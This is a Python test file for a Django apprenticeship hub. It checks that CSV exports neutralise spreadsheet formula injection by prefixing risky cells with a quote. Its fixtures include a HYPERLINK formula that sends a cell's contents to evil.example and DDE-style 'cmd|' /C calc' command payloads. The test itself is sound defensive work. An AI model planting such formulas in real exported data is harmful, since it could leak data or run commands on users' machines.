"""Names typed by employers and providers never become formulas in the hub's spreadsheets (OWASP CSV injection).

Every CSV the service writes goes through lcr_skills.text.csv_cell: a cell starting = + - @ tab or
CR gets a leading ' so that a spreadsheet shows it as text; numbers stay numbers.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from apprenticeships.models import Vacancy
from apprenticeships.services.offer_import import template_csv
from lcr_skills.text import csv_cell
from tests.factories import EmployerFactory, ProviderFactory
from tests.market_factories import CourseOfferFactory, VacancyFactory

pytestmark = pytest.mark.django_db

EMPLOYER_FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
PROVIDER_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def export(hub_user, name: str) -> list[list[str]]:
    browser = Client()
    browser.force_login(hub_user)
    response = browser.get(reverse("dashboard-export", args=[name]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_an_employer_named_with_a_hyperlink_formula_lands_neutralised_in_the_levy_transfers_export(hannah):
    # A levy payer whose live vacancy costs more than a year's funds: it is listed as needing a transfer.
    employer = EmployerFactory(name=EMPLOYER_FORMULA, is_levy_payer=True, annual_pay_bill=3_100_000)
    VacancyFactory(employer=employer, status=Vacancy.Status.LIVE)

    rows = export(hannah, "levy-transfers")

    assert [row[1] for row in rows[1:]] == ["'" + EMPLOYER_FORMULA]


def test_a_provider_named_with_a_command_formula_lands_neutralised_in_the_providers_export(hannah):
    CourseOfferFactory(provider=ProviderFactory(name=PROVIDER_FORMULA))

    rows = export(hannah, "providers")

    assert rows[0][1] == "Provider"
    assert [row[1] for row in rows[1:]] == ["'" + PROVIDER_FORMULA]
    assert rows[1][4] == "20"  # places offered: a number, left as it is


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 151 000 0000", "'+44 151 000 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Acme = best", "Acme = best"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        (-5, -5),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote_and_numbers_stay_numbers(value, written):
    assert csv_cell(value) == written


def test_the_offer_template_is_unchanged_by_the_rule():
    rows = list(csv.reader(io.StringIO(template_csv())))

    assert all(not cell.startswith("'") for row in rows for cell in row)
